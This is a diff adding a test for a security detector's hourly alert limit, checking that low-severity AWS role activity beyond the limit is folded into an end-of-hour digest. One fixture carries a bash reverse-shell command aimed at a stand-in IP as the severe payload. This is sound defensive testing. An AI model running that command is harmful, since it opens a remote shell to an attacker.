@@ -172,3 +172,23 @@ describe('commands and processes', () => {
     }
   })
 })
+
+describe('mails by the hour', () => {
+  const caller = (name: string, severe = false) =>
+    awsActivity({
+      id: `by-${name}`,
+      actor: { ...awsActivity().actor, key: `aws:123456789012:role/${name}`, display: `role/${name}` },
+      ...(severe ? { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const } : {}),
+    })
+
+  it('hold back what is below high beyond the limit, and send one digest at the end of the hour', async () => {
+    const detector = testDetector({ maxAlertsPerHour: 2 })
+    for (const name of ['A', 'B', 'C', 'D']) await processActivity(detector, caller(name), 'first')
+    await processActivity(detector, caller('Severe', true), 'first')
+    expect(detector.alerts.map(({ actor, kind }) => [actor.display, kind])).toEqual([['role/A', 'alert'], ['role/B', 'alert'], ['role/Severe', 'alert']])
+    detector.clock.time += 60 * MINUTE
+    await sweep(detector)
+    expect(detector.alerts.at(-1)).toMatchObject({ kind: 'digest', repeats: 2, activities: expect.arrayContaining(['by-C', 'by-D']) })
+    expect(await sweep(detector)).toBe(0)
+  })
+})
